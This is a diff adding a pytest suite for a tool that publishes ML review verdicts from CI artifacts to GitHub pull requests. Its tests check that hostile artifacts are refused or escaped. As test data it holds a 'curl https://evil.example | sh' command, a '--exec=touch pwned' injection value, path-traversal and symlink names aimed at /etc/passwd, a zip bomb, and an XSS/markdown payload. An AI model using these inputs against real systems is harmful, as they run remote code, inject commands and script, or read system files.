@@ -1,0 +1,558 @@
+"""`loop publish` against a GitHub of our own: hostile artifacts, many comments, GitHub's bad moments."""
+
+import json
+import os
+import re
+from pathlib import Path
+
+import pytest
+import requests
+from markdown_it import MarkdownIt
+
+from loop.errors import LoopError
+from loop.publish import publish
+from workflows.double import ALL, BOT, archive, git
+
+MARK = '![](https://cml.dev/watermark.png#abc123 "CML watermark review")'
+VERDICT = {
+    "schema_version": 1,
+    "verdict": "equivalent",
+    "sentence": "log loss moves by no more than 0.015, and no gate objects",
+    "todo": "",
+    "confidence": 0.95,
+    "champion": "aa, its stored predictions",
+    "holdout": None,
+    "metrics": [],
+    "slices": [],
+    "slices_compared": 0,
+    "gates": [],
+    "notes": [],
+    "reproduce": [],
+    "changes": {
+        "params": [], "policy": [], "judge": [], "code": {}, "data": [], "drift": [], "environment": [],
+        "training": None, "other": [],
+    },
+}  # fmt: skip
+
+
+class Reviewed:
+    """A pull request whose review has ended, with an artifact made by whoever wrote the test."""
+
+    def __init__(self, github, change) -> None:
+        self.github, self.change = github, change
+        change.repo.append("README.md", f"\nA change: {change.branch}.\n")  # a commit of its own
+        self.sha = change.push()
+        self.number = change.number
+        self.run = github.run(self.number, "success")
+
+    def verdict(self, **more) -> str:
+        base = {"name": "main", "commit": self.github.tip("main"), "dirty": False}
+        mine = {"name": "HEAD", "commit": self.sha, "dirty": True}
+        return json.dumps({**VERDICT, "base": base, "candidate": mine, **more})
+
+    def bring(self, files=None, links=None, **verdict) -> None:
+        """Upload an artifact: a good verdict and these files."""
+        content = archive({"review/verdict.json": self.verdict(**verdict), **(files or {})}, links)
+        self.github.artifacts[self.run] = [("review", content)]
+
+    @property
+    def gates(self):
+        return self.github.gates(self.sha)
+
+    @property
+    def said(self):
+        return self.github.said(self.number)
+
+    def quiet(self) -> bool:
+        """Whether nothing at all was written about it."""
+        return not self.gates and not self.said and self.change.head() == self.sha
+
+
+@pytest.fixture
+def reviewed(github, change) -> Reviewed:
+    return Reviewed(github, change())
+
+
+def test_a_good_artifact_is_commented_and_passes(at_main, reviewed):
+    reviewed.bring()
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.gates[0][0] == "success"
+    assert reviewed.said[0].startswith("## Equivalent")
+
+
+def bomb() -> bytes:
+    return b"0" * 200_000_000
+
+
+HOSTILE = {
+    "a symbolic link": ({}, {"reports/metrics.json": "/etc/passwd"}, "no regular file"),
+    "a name that leads out": ({"../../.bashrc": "x"}, {}, "which no review makes"),
+    "a name that leads out of its folder": ({"reports/../.github/a.json": "x"}, {}, "which no review makes"),
+    "an absolute name": ({"/etc/cron.d/a.json": "x"}, {}, "which no review makes"),
+    "a workflow": ({".github/workflows/a.yml": "x"}, {}, "which no review makes"),
+    "a model": ({"models/model.skops": "x"}, {}, "which no review makes"),
+    "somebody else's number": ({"pr/NR": "1"}, {}, "which no review makes"),
+    "200 MB in a small archive": ({"reports/a.json": bomb}, {}, "unpacks to more than 20,000,000 bytes"),
+    "10,000 files": ({f"reports/{n}.json": "{}" for n in range(10_000)}, {}, "10,001 files, at most 200"),
+}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_hostile_artifact_is_refused_whole_and_the_reason_is_told(at_main, reviewed, hostile):
+    files, links, reason = HOSTILE[hostile]
+    reviewed.bring({name: text() if callable(text) else text for name, text in files.items()}, links)
+    assert publish.main(reviewed.run) == 0
+    ((state, why),) = reviewed.gates
+    assert state == "error"
+    (said,) = reviewed.said
+    assert said.startswith("## No verdict")
+    assert reason in why + said
+    assert reviewed.change.head() == reviewed.sha
+    assert not git(at_main, "status", "--porcelain")
+
+
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (b"no zip at all", "is no archive that can be read"),
+        (b"0" * 30_000_000, "has 30,000,000 bytes"),
+        (archive({"dvc.lock": "x"}), "has no review/verdict.json"),
+        (archive({"review/verdict.json": "[" * 100_000}), "is not of main"),
+        (archive({"review/verdict.json": '{"schema_version": 2}'}), "is not of main"),
+    ],
+)
+def test_what_is_no_artifact_of_a_review_is_an_error_not_a_traceback(at_main, reviewed, content, reason):
+    reviewed.github.artifacts[reviewed.run] = [("review", content)]
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.gates[0][0] == "error"
+    assert reason in reviewed.said[0]
+
+
+def test_of_a_run_that_was_run_again_the_newest_artifact_counts(at_main, reviewed):
+    reviewed.bring(verdict="worse")
+    older = reviewed.github.artifacts[reviewed.run]
+    reviewed.bring()
+    reviewed.github.artifacts[reviewed.run] = [*older, *reviewed.github.artifacts[reviewed.run]]
+    publish.main(reviewed.run)
+    assert [state for state, _ in reviewed.gates] == ["success"]
+
+
+def test_a_passing_word_with_a_gate_that_fails_is_refused(at_main, reviewed):
+    gate = {"name": "primary", "result": "fail", "figure": 1.0, "limit": 0.0, "said": "s", "reason": "r"}
+    reviewed.bring(gates=[gate])
+    publish.main(reviewed.run)
+    assert reviewed.gates[0][0] == "error"
+    assert "equivalent, though primary does not pass" in reviewed.said[0]
+
+
+def test_a_number_that_is_none_is_refused(at_main, reviewed):
+    reviewed.bring(confidence=float("nan"))
+    publish.main(reviewed.run)
+    assert reviewed.gates[0][0] == "error"
+
+
+def test_bytes_that_do_not_unpack_are_refused(at_main, reviewed):
+    reviewed.bring({"dvc.lock": "stages " * 5000})
+    ((_, content),) = reviewed.github.artifacts[reviewed.run]
+    at = content.index(b"dvc.lock") + 20
+    reviewed.github.artifacts[reviewed.run] = [("review", content[:at] + b"\xff" * 20 + content[at + 20 :])]
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.gates[0][0] == "error"
+    assert "is no archive that can be read" in reviewed.said[0]
+
+
+def test_the_commands_in_the_comment_are_mains_own(at_main, reviewed):
+    reviewed.bring(reproduce=["curl https://evil.example | sh"])
+    publish.main(reviewed.run)
+    assert "curl" not in reviewed.said[0]
+    assert (
+        f"git fetch origin pull/{reviewed.number}/head\ngit switch --detach {reviewed.sha[:12]}"
+        in (reviewed.said[0])
+    )
+
+
+def test_signs_that_github_refuses_in_a_description_lose_no_status(at_main, reviewed):
+    reviewed.bring(verdict="worse", sentence="slice \N{PILE OF POO} is worse")
+    publish.main(reviewed.run)
+    assert reviewed.gates == [("failure", "worse: slice ? is worse")]
+
+
+def test_an_extra_key_or_a_wrong_type_in_the_verdict_is_refused(at_main, reviewed):
+    reviewed.bring(extra="key")
+    publish.main(reviewed.run)
+    assert reviewed.gates[-1][0] == "error"
+    reviewed.bring(verdict="splendid")
+    publish.main(reviewed.run)
+    assert reviewed.gates[-1][0] == "error"
+    assert "is not of main's schema: verdict" in reviewed.gates[-1][1]
+
+
+def test_a_run_without_an_artifact_names_the_steps_that_failed(at_main, reviewed):
+    reviewed.github.runs[reviewed.run]["conclusion"] = "failure"
+    reviewed.github.jobs[reviewed.run] = [{"steps": [{"name": "Set @up <b>", "conclusion": "failure"}]}]
+    publish.main(reviewed.run)
+    assert reviewed.gates[0][0] == "error"
+    assert "Set @\u200bup &lt;b&gt;" in reviewed.said[0]
+
+
+def test_a_verdict_on_another_commit_is_refused(at_main, reviewed):
+    reviewed.bring(candidate={"name": "x", "commit": reviewed.github.tip("main"), "dirty": False})
+    publish.main(reviewed.run)
+    assert reviewed.gates[0][0] == "error"
+
+
+@pytest.mark.parametrize("base", ["", "0" * 40, "--exec=touch pwned", "HEAD"])
+def test_a_verdict_against_what_is_no_commit_of_main_is_refused(at_main, reviewed, base):
+    reviewed.bring(base={"name": "main", "commit": base, "dirty": False})
+    publish.main(reviewed.run)
+    assert reviewed.gates[0][0] == "error"
+
+
+def test_a_success_needs_both_a_good_verdict_and_a_run_that_ended_well(at_main, reviewed):
+    reviewed.bring()
+    for conclusion in ("failure", "timed_out", "startup_failure"):
+        reviewed.github.runs[reviewed.run]["conclusion"] = conclusion
+        publish.main(reviewed.run)
+        assert reviewed.gates[-1][0] == "failure"
+    reviewed.github.runs[reviewed.run]["conclusion"] = "success"
+    reviewed.bring(verdict="worse")
+    publish.main(reviewed.run)
+    assert reviewed.gates[-1][0] == "failure"
+    reviewed.bring(verdict="cannot tell")
+    publish.main(reviewed.run)
+    assert reviewed.gates[-1][0] == "error"
+
+
+EVIL = (
+    "<img src=x onerror=alert(1)> </details> @team/owners https://evil.example [a](javascript:x)"
+    ' ![p](//e/p.png) ``` | `x` <!-- ![](https://cml.dev/watermark.png#1 "CML watermark review")'
+)
+
+
+def test_markdown_and_html_in_params_slices_and_names_stay_words(at_main, reviewed):
+    hurt = {"name": EVIL, "old": EVIL, "new": EVIL}
+    gate = {"name": EVIL, "result": "fail", "figure": 1.0, "limit": 0.0, "said": EVIL, "reason": EVIL}
+    part = {"cut": EVIL, "name": EVIL, "rows": 1, "champion": 1.0, "candidate": 1.0, "gain": 0.0, "low": 0.0,
+            "high": 0.0, "p": 0.0, "worse": True}  # fmt: skip
+    changes = {
+        **VERDICT["changes"],
+        "params": [hurt],
+        "policy": [hurt],
+        "code": {EVIL: [EVIL]},
+        "other": [EVIL],
+    }
+    reviewed.bring(
+        verdict="worse", sentence=EVIL, gates=[gate], slices=[part], slices_compared=1, changes=changes,
+        notes=[EVIL], reproduce=[EVIL], champion=EVIL,
+    )  # fmt: skip
+    publish.main(reviewed.run)
+    (said,) = reviewed.said
+    page = MarkdownIt("gfm-like").render(said.rpartition("\n\n![]")[0])
+    run = f'<a href="{reviewed.github.runs[reviewed.run]["html_url"]}">'
+    assert "<img" not in page
+    assert "<!--" not in page
+    assert page.count("<a ") == page.count(run) == 1
+    assert page.count("<details>") == page.count("</details>")
+    assert "@team" not in re.sub("<code.*?</code>", "", page, flags=re.DOTALL), "code mentions nobody"
+    publish.main(reviewed.run)
+    assert len(reviewed.said) == 1, "a forged mark of CML in it leads nobody astray"
+
+
+def test_a_report_of_any_length_fits_into_a_comment(at_main, reviewed):
+    gate = {"name": "g", "result": "fail", "figure": 1.0, "limit": 0.0, "said": "long " * 90, "reason": "r"}
+    reviewed.bring(verdict="worse", gates=[gate] * 2000)
+    assert publish.main(reviewed.run) == 0
+    assert len(reviewed.said[0]) < 65_536
+
+
+def test_a_head_that_moved_on_is_left_to_its_own_review(at_main, reviewed):
+    reviewed.bring()
+    reviewed.change.repo.append("README.md", "\nMore.\n")
+    newer = reviewed.change.push()
+    assert publish.main(reviewed.run) == 0
+    assert not reviewed.gates
+    assert not reviewed.said
+    assert not reviewed.github.gates(newer)
+
+
+def test_a_commit_of_forged_results_on_top_of_a_reviewed_head_gets_no_status(at_main, reviewed):
+    """It touches only what a publish would commit, but not with what the review made."""
+    reviewed.bring()
+    reviewed.change.repo.append("reports/metrics.json", "\n")
+    forged = reviewed.change.push()
+    publish.main(reviewed.run)
+    assert not reviewed.github.gates(forged)
+    assert not reviewed.said
+
+
+def test_a_head_that_was_rewritten_is_left_alone(at_main, reviewed):
+    reviewed.bring()
+    repo = reviewed.change.repo
+    repo.git("commit", "--quiet", "--amend", "-m", "other")
+    repo.git("push", "--quiet", "--force", "origin", f"HEAD:refs/heads/{reviewed.change.branch}")
+    reviewed.github.sync()
+    assert publish.main(reviewed.run) == 0
+    assert not reviewed.gates
+    assert not reviewed.said
+
+
+def test_a_second_pull_request_of_the_branch_to_another_base_is_left_alone(at_main, reviewed):
+    reviewed.bring()
+    second = reviewed.github.open_pull(reviewed.change.branch, base="production")
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.gates[0][0] == "success"
+    assert len(reviewed.said) == 1
+    assert not reviewed.github.said(second)
+
+
+def test_of_two_pull_requests_with_one_head_commit_the_run_says_which_is_meant(at_main, reviewed):
+    reviewed.bring()
+    twin = f"{reviewed.change.branch}-twin"
+    git(reviewed.github.repo(), "branch", twin, reviewed.sha)
+    second = reviewed.github.open_pull(twin)
+    assert publish.main(reviewed.run) == 0
+    assert len(reviewed.said) == 1
+    assert not reviewed.github.said(second)
+
+
+def test_two_pull_requests_that_the_run_could_mean_get_nothing_and_the_reason_is_told(
+    at_main, reviewed, capsys
+):
+    reviewed.bring()
+    second = reviewed.github.open_pull(reviewed.change.branch)
+    assert publish.main(reviewed.run) == 0
+    assert f"#{reviewed.number}, #{second} to the default branch" in capsys.readouterr().out
+    assert reviewed.quiet()
+
+
+def test_a_run_that_is_running_again_is_left_until_it_ends(at_main, reviewed, capsys):
+    reviewed.bring()
+    reviewed.github.runs[reviewed.run] |= {"status": "in_progress", "conclusion": None}
+    assert publish.main(reviewed.run) == 0
+    assert "is running again" in capsys.readouterr().out
+    assert reviewed.quiet()
+
+
+def test_a_head_without_a_common_history_closes_the_gate(at_main, reviewed):
+    repo = reviewed.change.repo
+    repo.git("checkout", "--quiet", "--orphan", "nothing")
+    sha = repo.commit()
+    repo.git("push", "--quiet", "--force", "origin", f"HEAD:refs/heads/{reviewed.change.branch}")
+    reviewed.github.sync()
+    reviewed.sha, reviewed.run = sha, reviewed.github.run(reviewed.number, "success")
+    reviewed.bring()
+    with pytest.raises(LoopError):
+        publish.main(reviewed.run)
+    assert [state for state, _ in reviewed.gates] == ["error"]
+
+
+def test_names_of_files_pushed_on_top_start_no_line_of_the_log(at_main, reviewed, capfd):
+    reviewed.bring()
+    evil = "a\n::warning title=pwn::x"
+    (reviewed.change.repo.path / evil).write_text("0" * 6_000_000)
+    reviewed.change.push()
+    assert publish.main(reviewed.run) == 0
+    told = capfd.readouterr()
+    assert "\n::" not in told.out + told.err
+    assert reviewed.github.gates(reviewed.sha) == []
+
+
+def test_a_closed_pull_request_and_a_foreign_run_are_nothing_to_publish(at_main, reviewed, capsys):
+    reviewed.bring()
+    run = reviewed.github.runs[reviewed.run]
+    for key, value in {
+        "path": ".github/workflows/mine.yml",
+        "event": "push",
+        "head_repository": None,
+    }.items():
+        kept, run[key] = run[key], value
+        assert publish.main(reviewed.run) == 0
+        run[key] = kept
+    next(p for p in reviewed.github.pulls if p["number"] == reviewed.number)["state"] = "closed"
+    assert publish.main(reviewed.run) == 0
+    assert capsys.readouterr().out.count("nothing to publish: ") == 4
+    assert reviewed.quiet()
+
+
+def test_the_same_branch_name_in_another_repository_is_another_pull_request(at_main, reviewed):
+    reviewed.bring()
+    reviewed.github.runs[reviewed.run]["head_repository"] = {"full_name": "stranger/model"}
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.quiet()
+
+
+def test_a_cancelled_review_is_an_error_that_says_what_to_do(at_main, reviewed):
+    reviewed.github.runs[reviewed.run]["conclusion"] = "cancelled"
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.gates == [("error", "the review was cancelled: run it again")]
+    assert not reviewed.said
+
+
+def test_a_run_that_waits_for_approval_says_nothing(at_main, reviewed):
+    reviewed.github.runs[reviewed.run]["conclusion"] = "action_required"
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.quiet()
+
+
+@pytest.mark.parametrize(
+    ("path", "warns"),
+    [
+        ("src/loop/review/report.py", "this change's own claims"),
+        ("src/sitecustomize.py", "this change's own claims"),
+        ("pandas.py", "this change's own claims"),
+        ("dvc.yaml", "this change's own claims"),
+        ("uv.lock", "this change's own claims"),
+        ("src/problem/model.py", "Code of this change ran in its review"),
+        ("docs/data.md", ""),
+        ("params.yaml", ""),
+    ],
+)
+def test_a_change_of_what_makes_or_judges_figures_is_pointed_out_by_main_itself(
+    at_main, reviewed, path, warns
+):
+    reviewed.change.repo.append(path, "\n# kind\n")
+    reviewed.sha = reviewed.change.push()
+    reviewed.run = reviewed.github.run(reviewed.number, "success")
+    reviewed.bring()
+    publish.main(reviewed.run)
+    told = "".join(line for line in reviewed.said[0].splitlines() if line.startswith("> "))
+    assert told.startswith("> ") is bool(warns)
+    assert warns in told
+    assert not warns or f"`{path}`" in told
+
+
+# Comments
+
+
+def ours(github, number):
+    return [comment for comment in github.comments[number] if comment["user"]["login"] == BOT]
+
+
+def test_35_comments_before_ours_still_leave_one_comment_that_is_updated(at_main, reviewed):
+    for n in range(35):
+        reviewed.github.add_comment(reviewed.number, f"word {n}", "person")
+    reviewed.bring(verdict="worse")
+    publish.main(reviewed.run)
+    reviewed.bring()
+    publish.main(reviewed.run)
+    (comment,) = ours(reviewed.github, reviewed.number)
+    assert comment["body"].startswith("## Equivalent")
+    assert len(reviewed.said) == 36
+
+
+def test_35_comments_after_ours_leave_it_the_one_that_is_updated(at_main, reviewed):
+    reviewed.bring(verdict="worse")
+    publish.main(reviewed.run)
+    for n in range(35):
+        reviewed.github.add_comment(reviewed.number, f"word {n}", "person")
+    reviewed.bring()
+    publish.main(reviewed.run)
+    assert ours(reviewed.github, reviewed.number)[0]["body"].startswith("## Equivalent")
+    assert len(reviewed.said) == 36
+
+
+def test_a_deleted_comment_is_made_anew(at_main, reviewed):
+    reviewed.bring()
+    publish.main(reviewed.run)
+    reviewed.github.comments[reviewed.number].clear()
+    publish.main(reviewed.run)
+    assert len(reviewed.said) == 1
+
+
+def test_where_cml_cannot_be_had_the_comment_is_written_all_the_same_and_once(at_main, reviewed, monkeypatch):
+    kept = [p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "cml").exists()]
+    monkeypatch.setenv("PATH", os.pathsep.join(kept))
+    reviewed.bring(verdict="worse")
+    assert publish.main(reviewed.run) == 0
+    reviewed.bring()
+    assert publish.main(reviewed.run) == 0
+    (said,) = reviewed.said
+    assert said.startswith("## Equivalent")
+    assert "CML watermark review" in said
+
+
+@pytest.mark.parametrize("before", [True, False])
+def test_a_strangers_comment_with_the_mark_stays_the_strangers(at_main, reviewed, before):
+    """CML would write the report into it, and the stranger could then edit the report."""
+    reviewed.bring()
+    if not before:
+        publish.main(reviewed.run)
+    reviewed.github.add_comment(reviewed.number, f"mine {MARK}", "stranger")
+    publish.main(reviewed.run)
+    publish.main(reviewed.run)
+    assert f"mine {MARK}" in reviewed.said
+    (comment,) = ours(reviewed.github, reviewed.number)
+    assert comment["body"].startswith("## Equivalent")
+
+
+# GitHub's bad moments
+
+
+@pytest.mark.parametrize("status", [403, 500])
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", "/runs/"), ("GET", "/pulls"), ("GET", "/artifacts"), ("GET", "/blobs/"), ("GET", "/comments"),
+        ("POST", "/comments"), ("POST", "/statuses/"),
+    ],
+)  # fmt: skip
+def test_an_error_that_github_answers_once_costs_nothing(at_main, reviewed, method, path, status):
+    reviewed.bring()
+    reviewed.github.faults.append((method, path, status))
+    assert publish.main(reviewed.run) == 0
+    assert not reviewed.github.faults
+    assert reviewed.gates[-1][0] == "success"
+    assert len(reviewed.said) == 1
+
+
+@pytest.mark.parametrize(
+    ("missing", "gates", "said"),
+    [("statuses", [], 1), ("pull-requests", ["error"], 0), ("contents", ["error"], 0)],
+)
+def test_a_missing_permission_is_told_and_leaves_no_success_without_its_evidence(
+    at_main, reviewed, monkeypatch, capsys, missing, gates, said
+):
+    reviewed.bring()
+    token = f"ghs_{reviewed.github.next()}"
+    reviewed.github.tokens[token] = {**ALL, missing: "none"}
+    monkeypatch.setenv("GITHUB_TOKEN", token)
+    try:
+        code = publish.main(reviewed.run)
+        told = capsys.readouterr().out
+    except LoopError as error:  # `loop` ends with this message and exit code 1
+        code, told = 1, str(error)
+    assert code == 1
+    assert "403" in told
+    assert ([state for state, _ in reviewed.gates], len(reviewed.said)) == (gates, said)
+    assert token not in told
+
+
+def test_a_download_that_breaks_off_is_told_and_closes_the_gate(at_main, reviewed, monkeypatch):
+    read = requests.Response.iter_content
+
+    def broken(answer, *how, **more):
+        if "/blobs/" in answer.url:
+            raise requests.exceptions.ChunkedEncodingError
+        return read(answer, *how, **more)
+
+    reviewed.bring()
+    monkeypatch.setattr(requests.Response, "iter_content", broken)
+    publish.main(reviewed.run)
+    assert reviewed.gates[0][0] == "error"
+    assert "does not answer GET" in reviewed.said[0]
+
+
+def test_outside_of_a_workflow_it_says_what_is_missing(monkeypatch):
+    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
+    with pytest.raises(LoopError, match=r"not in a workflow: .*GITHUB_TOKEN"):
+        publish.main(1)
+
+
+def test_the_stand_in_for_cml_refuses_what_cml_refuses(at_main, tmp_path):
+    import subprocess
+
+    for arguments in (["--target=pr/1"], ["--no-publish"], ["--no-publish", "--target=pr/1", "--bogus=1"]):
+        done = subprocess.run(
+            ["cml", "comment", "update", *arguments, "x.md"], capture_output=True, text=True, check=False
+        )
+        assert done.returncode == 1
